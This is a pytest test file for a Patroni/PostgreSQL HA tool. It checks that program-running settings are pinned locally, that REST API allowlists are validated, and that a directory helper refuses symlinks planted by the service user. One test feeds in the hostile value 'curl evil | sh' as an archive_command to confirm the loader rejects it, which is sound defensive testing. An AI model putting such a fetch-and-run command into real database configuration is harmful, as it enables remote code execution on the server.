"""What the DCS cannot change, who may call Patroni's unsafe endpoints, and owned_dir."""

from __future__ import annotations

import os
import pwd
import shutil
import subprocess
import tempfile
from pathlib import Path

import pytest
import yaml

from pgha import ConfigError, load_spec, patroni
from pgha.files import CORE_DIR


def local_config(spec, secrets) -> dict:
    files = patroni.files(spec, spec.postgres_nodes[0], secrets, _placeholder_tls(spec))
    return yaml.safe_load(next(f for f in files if f.path == patroni.CONFIG_PATH).content)


def _placeholder_tls(spec):
    from pgha import ClusterTls

    return ClusterTls.placeholders(spec)


def test_every_setting_that_runs_a_program_is_pinned_locally_and_absent_from_the_dcs(spec, secrets):
    document = local_config(spec, secrets)
    local = document["postgresql"]["parameters"]
    for name in (*patroni.COMMAND_PARAMETERS, *patroni.LIBRARY_PARAMETERS):
        assert name in local, name
    assert local["archive_command"] == "pgbackrest --stanza=pgha archive-push %p"
    assert local["restore_command"] == "" and local["dynamic_library_path"] == "$libdir"
    for key, value in patroni.PINNED_HOOKS.items():
        assert document["postgresql"][key] == value, key
    dcs = document["bootstrap"]["dcs"]["postgresql"]["parameters"]
    assert not set(dcs) & set(local) - {"unix_socket_directories"}, set(dcs) & set(local)
    assert patroni.dynamic_config(spec)["postgresql"]["parameters"] == dcs


def test_alter_system_is_off_and_no_archive_library_is_loaded_whatever_the_dcs_says(spec, secrets):
    """postgresql.auto.conf is read after the config Patroni writes: without ALTER SYSTEM a
    superuser session cannot write it, so it cannot undo the pins above."""
    local = local_config(spec, secrets)["postgresql"]["parameters"]
    assert local["allow_alter_system"] == "off"
    assert local["archive_library"] == ""
    dcs = patroni.dynamic_config(spec)["postgresql"]["parameters"]
    assert "allow_alter_system" not in dcs and "archive_library" not in dcs


def test_stack_config_cannot_set_a_command_but_may_preload_libraries(dev_config, secrets):
    dev_config["postgres"] = {"parameters": {"archive_command": "curl evil | sh", "restore_command": "x"}}
    with pytest.raises(ConfigError) as caught:
        load_spec(dev_config, "dev")
    assert any("postgres.parameters.archive_command" in p for p in caught.value.problems)
    assert any("postgres.parameters.restore_command" in p for p in caught.value.problems)
    dev_config["postgres"] = {"parameters": {"shared_preload_libraries": "pg_stat_statements"}}
    spec = load_spec(dev_config, "dev")
    local = local_config(spec, secrets)["postgresql"]["parameters"]
    assert local["shared_preload_libraries"] == "pg_stat_statements"
    assert "shared_preload_libraries" not in patroni.dynamic_config(spec)["postgresql"]["parameters"]


def test_the_rest_api_admits_members_and_the_operators_networks(dev_config, secrets, spec):
    restapi = local_config(spec, secrets)["restapi"]
    assert restapi["allowlist_include_members"] is True and "allowlist" not in restapi
    dev_config["patroni"] = {"restApiAllowFrom": ["192.0.2.0/24", "198.51.100.7"]}
    restapi = local_config(load_spec(dev_config, "dev"), secrets)["restapi"]
    assert restapi["allowlist"] == ["192.0.2.0/24", "198.51.100.7/32"]
    for bad, fragment in (("10.0.0.0/33", "restApiAllowFrom[0]"), ("10.0.0.0/24\n", "U+000A")):
        dev_config["patroni"] = {"restApiAllowFrom": [bad]}
        with pytest.raises(ConfigError) as caught:
            load_spec(dev_config, "dev")
        assert any(fragment in p for p in caught.value.problems), caught.value.problems
    dev_config["patroni"] = {"restApiAllowFrom": "10.0.0.0/24"}
    with pytest.raises(ConfigError) as caught:
        load_spec(dev_config, "dev")
    assert any("expected a list" in p for p in caught.value.problems)


# ---- owned_dir, run for real (needs root for runuser and chown) ---------------------


def owned_dir(path: Path, user: str = "daemon") -> subprocess.CompletedProcess:
    function = (CORE_DIR / "system" / "owned-dir.sh.j2").read_text()
    script = f'set -euo pipefail\n{function}\nowned_dir {user} 0750 "$1"\n'
    return subprocess.run(["bash", "-c", script, "owned_dir", str(path)], capture_output=True, text=True)


needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="runuser and chown need root")


@needs_root
def test_owned_dir_refuses_a_symlink_planted_by_the_service_user(tmp_path):
    user = pwd.getpwnam("daemon")
    home = tmp_path / "home"  # the service user's own directory
    home.mkdir()
    os.chown(home, user.pw_uid, user.pw_gid)
    precious = tmp_path / "precious"  # root's
    precious.mkdir()
    (home / "data").symlink_to(precious)
    result = owned_dir(home / "data")
    assert result.returncode != 0 and "symlink" in result.stderr, result
    assert precious.stat().st_uid == 0
    # Through a symlinked ancestor too.
    (home / "data").unlink()
    (home / "sub").symlink_to(precious)
    result = owned_dir(home / "sub" / "data")
    assert result.returncode != 0 and not (precious / "data").exists(), result


@pytest.fixture
def root_only_dir():
    """A directory whose ancestors are root's alone and traversable (pytest's tmp_path is neither)."""
    base = Path(tempfile.mkdtemp(prefix="pgha-owned-dir-", dir="/var/cache"))
    base.chmod(0o755)
    try:
        yield base
    finally:
        shutil.rmtree(base)


@needs_root
def test_owned_dir_makes_it_as_the_user_inside_the_users_directory(root_only_dir):
    user = pwd.getpwnam("daemon")
    home = root_only_dir / "home"
    home.mkdir()
    os.chown(home, user.pw_uid, user.pw_gid)
    result = owned_dir(home / "data")
    assert result.returncode == 0, result.stderr
    assert (home / "data").stat().st_uid == user.pw_uid
    # Under root-only ancestors root makes it and hands it over (daemon could not create it there).
    result = owned_dir(root_only_dir / "repo")
    assert result.returncode == 0, result.stderr
    assert (root_only_dir / "repo").stat().st_uid == user.pw_uid
    assert (root_only_dir / "repo").stat().st_mode & 0o777 == 0o750
